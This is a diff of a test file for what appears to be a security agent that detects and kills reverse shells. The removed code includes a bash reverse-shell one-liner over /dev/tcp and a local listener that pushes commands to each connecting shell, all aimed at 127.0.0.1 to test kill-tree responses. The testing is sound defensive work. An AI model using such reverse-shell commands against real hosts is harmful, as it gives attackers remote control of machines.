@@ -4,15 +4,14 @@
 // meanwhile, a freeze holds against SIGCONT and ends, a dry run changes nothing, a limit disarms, and the
 // workload's first process is left alone. /proc says who is left, not the agent.
 // Time limit: 900 s.
-import { existsSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
-import { createServer, type Socket } from "node:net";
+import { existsSync, readdirSync, readFileSync } from "node:fs";
 import { join } from "node:path";
 import { setTimeout as sleep } from "node:timers/promises";
 import { test } from "uvu";
 import * as assert from "uvu/assert";
-import { stringify } from "yaml";
-import { AGENT, run, scratch, start, VEDETTE } from "./programs.js";
+import { AGENT, run, scratch, start } from "./programs.js";
 import { responded, sidecar, TREE } from "./responding.js";
+import { reverseShells } from "./reverse-shells.js";
 
 /** Ends when no process of the fixture is left for a while, and says so if that was soon. */
 const UNTIL_NONE =
@@ -32,6 +31,8 @@ async function until(what: string, holds: () => boolean): Promise<void> {
   }
   assert.unreachable(`waited in vain: ${what}`);
 }
+/** More of them: VEDETTE_RESPOND_ROUNDS=200. */
+const ROUNDS = Number(process.env.VEDETTE_RESPOND_ROUNDS ?? 40);
 const MANNERS = [
   { tiers: "all", env: {} },
   { tiers: "trace", env: {} },
@@ -198,60 +199,17 @@ test("a sidecar asks the agents that allow it, and no others", async () => {
   }
 });
 
-/** Who waits for shells and has each of them run a program at once, as often as it takes commands. */
-async function attacker(folder: string) {
-  let [shells, closed] = [0, 0];
-  const server = createServer((shell: Socket) => {
-    const command = `/usr/bin/touch ${join(folder, `ran.${shells++}`)}; exit\n`;
-    const asking = setInterval(() => shell.write(command), 1);
-    shell.write(command);
-    shell
-      .on("error", () => undefined)
-      .on("data", () => undefined)
-      .on("close", () => {
-        clearInterval(asking);
-        closed++;
-      });
-  });
-  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
-  const { port } = server.address() as { port: number };
-  const counts = (): object => ({
-    shells,
-    closed,
-    ran: readdirSync(folder).filter((f) => f.startsWith("ran.")).length,
-  });
-  return { port, counts, end: () => server.close() };
-}
-
-/** All of them: VEDETTE_RESPOND_ROUNDS=200. */
-const ROUNDS = Number(process.env.VEDETTE_RESPOND_ROUNDS ?? 40);
-
-/** Lets so many reverse shells begin, one after another, each when the one before has ended. */
-async function reverseShells(rounds: number, mode: string, flags: string[], env: Record<string, string>) {
-  const folder = scratch();
-  const { port, counts, end } = await attacker(folder);
-  const respond = join(folder, "respond.yaml");
-  const row = { rules: ["Shell on a socket"], action: "kill-tree", mode, limit: { per_minute: 1000 } };
-  writeFileSync(respond, stringify({ respond: [row] }));
-  const shell = `bash -c 'bash -i >&/dev/tcp/127.0.0.1/${port} 0>&1' 2>/dev/null`;
-  const script = `i=0; while [ $i -lt ${rounds} ]; do ${shell}; i=$((i+1)); done; echo over`;
-  const policy = ["--policy", "policies/command-and-control/shell-on-socket"];
-  const argv = [...VEDETTE, "run", ...policy, "--respond", respond, ...flags, "--", "sh", "-c", script];
-  const { stdout, stderr } = await run(argv, { limitMs: 240_000, env });
-  end();
-  assert.is(stdout, "over\n", stderr);
-  return { counts: counts(), done: stderr.match(/"output":"[^"]*Response kill-tree: done/g)?.length };
-}
-
 test("a reverse shell that nothing kills runs what it is told to, and a dry run changes nothing of that", async () => {
-  const { counts, done } = await reverseShells(1, "dry-run", [], {});
-  assert.equal([counts, done], [{ shells: 1, closed: 1, ran: 1 }, undefined]);
+  const { shells, closed, ran, done } = await reverseShells({ rounds: 1, mode: "dry-run", flags: [], env: {} });
+  assert.equal([shells, closed, ran.length, done.length], [1, 1, 1, 0]);
 });
 
 for (const { how, options } of MANNERS_SAID) {
-  test(`${how}: a reverse shell is killed before it has run a program, ${ROUNDS} times of ${ROUNDS}`, async () => {
-    const { counts, done } = await reverseShells(ROUNDS, "enforce", options.flags, options.env);
-    assert.equal([counts, done], [{ shells: ROUNDS, closed: ROUNDS, ran: 0 }, ROUNDS]);
+  test(`${how}: a reverse shell is killed with its tree, ${ROUNDS} times of ${ROUNDS}, and nothing of it runs then`, async () => {
+    const { shells, closed, ran, done } = await reverseShells({ rounds: ROUNDS, mode: "enforce", ...options });
+    assert.equal([shells, closed, done.length], [ROUNDS, ROUNDS, ROUNDS]);
+    // Whether a shell was quicker than the alert is a matter of speed: `npm run bench -- response` says.
+    for (const { round, at } of ran) assert.ok(at <= done[round]! + 1, `round ${round}: ${at} ${done[round]}`);
   });
 }
 
